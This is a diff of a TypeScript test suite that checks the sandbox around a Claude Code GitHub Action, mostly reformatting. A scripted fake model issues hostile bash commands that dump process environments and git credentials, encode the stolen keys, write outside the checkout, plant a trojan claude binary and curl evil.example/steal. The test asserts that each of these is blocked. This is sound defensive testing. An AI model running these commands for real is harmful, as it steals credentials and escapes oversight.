@@ -13,7 +13,16 @@ import { PINNED_CLAUDE_CODE_VERSION } from '../src/action/claude-install.js'
 import { secretForms } from '../src/util/secret-forms.js'
 import { documentPhase, reviewReplies, SAMPLE_FINDINGS, standardRules, write } from './support/phase-scripts.js'
 import { gitIn, REPO_ROOT, SAMPLE_FILES } from './support/sandbox.js'
-import { ANTHROPIC_KEY, createWorld, githubProblems, GITHUB_TOKEN, node24Path, OPENAI_KEY, type ActionRun, type World } from './support/action-harness.js'
+import {
+  ANTHROPIC_KEY,
+  createWorld,
+  githubProblems,
+  GITHUB_TOKEN,
+  node24Path,
+  OPENAI_KEY,
+  type ActionRun,
+  type World
+} from './support/action-harness.js'
 
 let w: World
 let open = false
@@ -43,9 +52,13 @@ function everythingOnOrigin(origin: string): string {
   const objects = gitIn(origin, ['cat-file', '--batch-all-objects', '--batch-check=%(objectname) %(objecttype)'])
     .split('\n')
     .filter(Boolean)
-    .map((line) => line.split(' '))
+    .map(line => line.split(' '))
   return objects
-    .map(([sha, type]) => (type === 'tree' ? gitIn(origin, ['ls-tree', '-r', '--name-only', sha as string]) : gitIn(origin, ['cat-file', '-p', sha as string])))
+    .map(([sha, type]) =>
+      type === 'tree'
+        ? gitIn(origin, ['ls-tree', '-r', '--name-only', sha as string])
+        : gitIn(origin, ['cat-file', '-p', sha as string])
+    )
     .join('\n')
 }
 
@@ -55,8 +68,8 @@ function leaks(texts: Array<[string, string]>): string[] {
   return texts.flatMap(([where, text]) =>
     Object.entries(secrets).flatMap(([name, secret]) =>
       secretForms(secret)
-        .filter((form) => text.includes(form))
-        .map((form) => `${name} in ${where} (${form === secret ? 'plain' : 'encoded'})`)
+        .filter(form => text.includes(form))
+        .map(form => `${name} in ${where} (${form === secret ? 'plain' : 'encoded'})`)
     )
   )
 }
@@ -67,15 +80,19 @@ describe('the sandbox', () => {
     open = true
     // A loopback service that is not the model: nothing in the sandbox may reach it.
     const touched: string[] = []
-    const listener = net.createServer((sock) => {
+    const listener = net.createServer(sock => {
       touched.push('connection')
       sock.destroy()
     })
-    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r))
+    await new Promise<void>(r => listener.listen(0, '127.0.0.1', r))
     const port = (listener.address() as net.AddressInfo).port
     const runDir = path.join(w.sb.root, 'run-1')
     const marker = path.join(w.sb.root, 'planted-claude-ran')
-    const outside = [path.join(w.sb.home, 'pwned.txt'), path.join(runDir, 'pwned.txt'), path.join('/tmp', `pwned-${path.basename(w.sb.root)}.txt`)]
+    const outside = [
+      path.join(w.sb.home, 'pwned.txt'),
+      path.join(runDir, 'pwned.txt'),
+      path.join('/tmp', `pwned-${path.basename(w.sb.root)}.txt`)
+    ]
     const plantedClaude = `#!/bin/sh\necho ran > ${marker}\nenv >> ${marker}\nexec ${path.join(REPO_ROOT, 'node_modules', '.bin', 'claude')} "$@"\n`
 
     w.sb.model.setRules(
@@ -85,25 +102,40 @@ describe('the sandbox', () => {
             text: 'Looking around.',
             tools: [
               // Every process's environment, our own, and the checkout's credentials file.
-              bash('for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done > stolen.txt 2>/dev/null; env >> stolen.txt; cat "$RUNNER_TEMP"/git-credentials-*.config >> stolen.txt 2>&1; ls /proc | grep -c "^[0-9]" > pids.txt'),
+              bash(
+                'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done > stolen.txt 2>/dev/null; env >> stolen.txt; cat "$RUNNER_TEMP"/git-credentials-*.config >> stolen.txt 2>&1; ls /proc | grep -c "^[0-9]" > pids.txt'
+              ),
               // What it found, plain, reversed and base64, in files and in a file name.
-              bash('grep -E "KEY|TOKEN|AUTHORIZATION" stolen.txt > src/plain.txt; rev stolen.txt > src/reversed.txt; base64 -w0 stolen.txt > src/encoded.txt; touch "leak-$(printenv ANTHROPIC_API_KEY).txt"'),
+              bash(
+                'grep -E "KEY|TOKEN|AUTHORIZATION" stolen.txt > src/plain.txt; rev stolen.txt > src/reversed.txt; base64 -w0 stolen.txt > src/encoded.txt; touch "leak-$(printenv ANTHROPIC_API_KEY).txt"'
+              ),
               // Writes outside the checkout.
-              bash(outside.map((f) => `echo pwned > ${f}`).join('; ') + '; echo done'),
+              bash(outside.map(f => `echo pwned > ${f}`).join('; ') + '; echo done'),
               // A claude the next run would pick up from the checkout.
               write(w.workspace, 'node_modules/.bin/claude', plantedClaude),
               bash('chmod +x node_modules/.bin/claude'),
               // Other hosts: a loopback service, the model server itself, the internet.
-              bash(`curl -s -m 3 http://127.0.0.1:${port}/ ; echo "a=$?"; curl -s -m 3 ${w.sb.model.url}/v1/messages ; echo "b=$?"; curl -s -m 5 https://evil.example/steal ; echo "c=$?"`)
+              bash(
+                `curl -s -m 3 http://127.0.0.1:${port}/ ; echo "a=$?"; curl -s -m 3 ${w.sb.model.url}/v1/messages ; echo "b=$?"; curl -s -m 5 https://evil.example/steal ; echo "c=$?"`
+              )
             ]
           },
           { text: 'Done.' }
         ]
       })
     )
-    const run = await w.run(w.labeledEvent('orchestrator'), { require_approval: 'false' }, { GITHUB_TOKEN, OPENAI_API_KEY: OPENAI_KEY }, {
-      beforeSpawn: () => fs.writeFileSync(path.join(runDir, 'git-credentials-1234.config'), `[http]\n\textraheader = AUTHORIZATION: basic ${GITHUB_TOKEN}\n`)
-    })
+    const run = await w.run(
+      w.labeledEvent('orchestrator'),
+      { require_approval: 'false' },
+      { GITHUB_TOKEN, OPENAI_API_KEY: OPENAI_KEY },
+      {
+        beforeSpawn: () =>
+          fs.writeFileSync(
+            path.join(runDir, 'git-credentials-1234.config'),
+            `[http]\n\textraheader = AUTHORIZATION: basic ${GITHUB_TOKEN}\n`
+          )
+      }
+    )
     listener.close()
     expectOk(run)
     expect(run.outputs.status).toBe('pr-opened')
@@ -114,13 +146,13 @@ describe('the sandbox', () => {
     expect(stolen).toMatch(/^ANTHROPIC_BASE_URL=http:\/\/127\.0\.0\.2:\d+$/m)
     expect(stolen).not.toMatch(/INPUT_|OPENAI|GITHUB_TOKEN/)
     expect(stolen).toMatch(/git-credentials-\*\.config'?: No such file or directory/)
-    const hostPids = fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)).length
+    const hostPids = fs.readdirSync('/proc').filter(n => /^\d+$/.test(n)).length
     expect(Number(gitIn(w.origin, ['show', `${BRANCH()}:pids.txt`]))).toBeLessThan(Math.min(30, hostPids))
     // Nothing outside the checkout changed.
     for (const f of outside) expect(fs.existsSync(f)).toBe(false)
     // No connection left the sandbox except to the model, through the credential proxy.
     expect(touched).toEqual([])
-    const probes = w.sb.model.requests.filter((r) => r.rule === 'implement')[1]?.lastUserText ?? ''
+    const probes = w.sb.model.requests.filter(r => r.rule === 'implement')[1]?.lastUserText ?? ''
     expect(probes).toContain('a=7')
     expect(probes).toContain('b=7')
     expect(probes).not.toContain('c=0')
@@ -134,8 +166,14 @@ describe('the sandbox', () => {
         ...pulls.map((p): [string, string] => [`PR #${p.number}`, `${p.title}\n${p.body ?? ''}`]),
         ['result file', fs.readFileSync(run.outputs.result_file as string, 'utf8')],
         ['job summary', run.summary],
-        ['log', `${run.stdout}\n${run.stderr}`.split('\n').filter((l) => !l.startsWith('::add-mask::')).join('\n')],
-        ['model requests', JSON.stringify(w.sb.model.requests.map((r) => r.raw))]
+        [
+          'log',
+          `${run.stdout}\n${run.stderr}`
+            .split('\n')
+            .filter(l => !l.startsWith('::add-mask::'))
+            .join('\n')
+        ],
+        ['model requests', JSON.stringify(w.sb.model.requests.map(r => r.raw))]
       ])
     ).toEqual([])
 
@@ -144,15 +182,27 @@ describe('the sandbox', () => {
     expect(body).toMatch(/🛡️ \*\*implement\*\*: Sandbox blocked \d+ connections?: evil\.example:443/)
     // (The writes into the hidden HOME and runner temp land in throwaway empty folders; /tmp is read-only.)
     expect(body).toMatch(new RegExp(`refused \\d+ writes?: [^\\n]*${outside[2]?.replace(/[.]/g, '\\.')}`))
-    const status = [...w.gh.state.comments.values()].find((c) => c.body.includes('<!-- orchestrator:status -->'))?.body ?? ''
+    const status =
+      [...w.gh.state.comments.values()].find(c => c.body.includes('<!-- orchestrator:status -->'))?.body ?? ''
     expect(status).toContain('Sandbox blocked')
 
     // The next run does not execute the claude the last one planted, even with the checkout's bin folder first on PATH.
     w.sb.model.setRules(standardRules(w.workspace))
-    const toolCache = path.join(w.sb.root, 'toolcache', 'orchestrator-claude-code', PINNED_CLAUDE_CODE_VERSION, 'node_modules', '.bin')
+    const toolCache = path.join(
+      w.sb.root,
+      'toolcache',
+      'orchestrator-claude-code',
+      PINNED_CLAUDE_CODE_VERSION,
+      'node_modules',
+      '.bin'
+    )
     fs.mkdirSync(toolCache, { recursive: true })
     fs.symlinkSync(path.join(REPO_ROOT, 'node_modules', '.bin', 'claude'), path.join(toolCache, 'claude'))
-    const again = await w.run(w.commentEvent('/approve'), { claude_path: '' }, { PATH: `${path.join(w.workspace, 'node_modules', '.bin')}:/usr/bin:/bin` })
+    const again = await w.run(
+      w.commentEvent('/approve'),
+      { claude_path: '' },
+      { PATH: `${path.join(w.workspace, 'node_modules', '.bin')}:/usr/bin:/bin` }
+    )
     expectOk(again)
     expect(again.outputs.status).toBe('pr-updated')
     expect(again.stdout).toContain(`Claude Code ${PINNED_CLAUDE_CODE_VERSION} (${path.join(toolCache, 'claude')})`)
@@ -174,7 +224,9 @@ describe('the sandbox', () => {
           {
             text: 'Implementing.',
             tools: [
-              bash('npm install --offline --no-audit --no-fund ./vendor/pad && node -e "console.log(require(\'pad\')(7, 3))"'),
+              bash(
+                'npm install --offline --no-audit --no-fund ./vendor/pad && node -e "console.log(require(\'pad\')(7, 3))"'
+              ),
               write(w.workspace, 'src/rate-limit.js', 'export const LIMIT = 100\n'),
               bash('npm test && echo TESTS-PASSED')
             ]
@@ -188,10 +240,12 @@ describe('the sandbox', () => {
     const run = await w.run(w.labeledEvent('orchestrator'), { require_approval: 'false' })
     expectOk(run)
     expect(run.outputs.status).toBe('pr-opened')
-    const results = w.sb.model.requests.filter((r) => r.rule === 'implement')[1]?.lastUserText ?? ''
+    const results = w.sb.model.requests.filter(r => r.rule === 'implement')[1]?.lastUserText ?? ''
     expect(results).toContain('007')
     expect(results).toContain('TESTS-PASSED')
-    expect(JSON.parse(gitIn(w.origin, ['show', `${BRANCH()}:package.json`])).dependencies).toEqual({ pad: 'file:vendor/pad' })
+    expect(JSON.parse(gitIn(w.origin, ['show', `${BRANCH()}:package.json`])).dependencies).toEqual({
+      pad: 'file:vendor/pad'
+    })
     const body = [...w.gh.state.pulls.values()][0]?.body ?? ''
     expect(body).not.toContain('Sandbox blocked')
     expect(body).not.toContain('without the sandbox')
@@ -213,12 +267,12 @@ describe('the sandbox', () => {
     expect(run.exitCode).toBe(1)
     expect(run.outputs.status).toBe('failed')
     expect(w.sb.model.requests).toHaveLength(0)
-    const comments = [...w.gh.state.comments.values()].map((c) => c.body)
+    const comments = [...w.gh.state.comments.values()].map(c => c.body)
     const failure = comments.at(-1) ?? ''
     expect(failure).toContain('the sandbox cannot start on this machine (bwrap: setting up uid map: Permission denied)')
     expect(failure).toContain('sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0')
     expect(failure).toContain('sandbox: off')
-    const status = comments.find((c) => c.includes('<!-- orchestrator:status -->')) ?? ''
+    const status = comments.find(c => c.includes('<!-- orchestrator:status -->')) ?? ''
     expect(status).toContain('❌')
     expect(status).not.toContain('(running)')
     expect(w.gh.state.issues.get(w.issue.number)?.labels).toContain('orchestrator:failed')
@@ -232,7 +286,8 @@ describe('the sandbox', () => {
     expect(unconfined.stdout).toContain('::warning::the sandbox is off (sandbox: off)')
     const pr = [...w.gh.state.pulls.values()][0]?.body ?? ''
     expect(pr).toContain('Claude Code ran **without the sandbox**: the sandbox is off (sandbox: off)')
-    const latestStatus = [...w.gh.state.comments.values()].filter((c) => c.body.includes('<!-- orchestrator:status -->')).at(-1)?.body ?? ''
+    const latestStatus =
+      [...w.gh.state.comments.values()].filter(c => c.body.includes('<!-- orchestrator:status -->')).at(-1)?.body ?? ''
     expect(latestStatus).toContain('Claude Code runs **without the sandbox**')
   })
 })
